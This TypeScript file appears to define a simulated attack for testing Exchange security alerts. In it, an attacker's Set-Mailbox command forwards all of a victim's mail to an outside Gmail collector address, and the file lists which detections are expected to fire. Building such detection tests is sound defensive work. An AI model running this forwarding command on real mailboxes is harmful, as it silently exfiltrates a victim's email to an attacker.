import { cmdlet } from '../records/mail.ts';
import { type Attack, attacker } from './attack.ts';

export const mailboxForwarding: Attack = {
  name: 'mailbox-forwarding',
  title: 'A mailbox sends a copy of all its mail to a private account',
  expected: {
    alerts: ['exchange.external-forwarding'],
    atMost: 1,
    never: ['exchange.suspicious-inbox-rule', 'exchange.many-mailboxes-forward-to-one'],
  },
  script: ({ victim, start, pen, mailboxOf }) => [
    cmdlet(
      pen,
      start,
      'Set-Mailbox',
      { user: victim.user, id: victim.id, ip: attacker.ip, type: 0 },
      {
        Identity: victim.user,
        ForwardingSmtpAddress: 'smtp:collector.8812@gmail.com',
        DeliverToMailboxAndForward: 'True',
      },
    ),
    {
      at: start,
      effect: {
        collection: 'mailboxes',
        id: mailboxOf(victim.user),
        values: { ForwardingSmtpAddress: 'smtp:collector.8812@gmail.com', DeliverToMailboxAndForward: true },
      },
    },
  ],
};
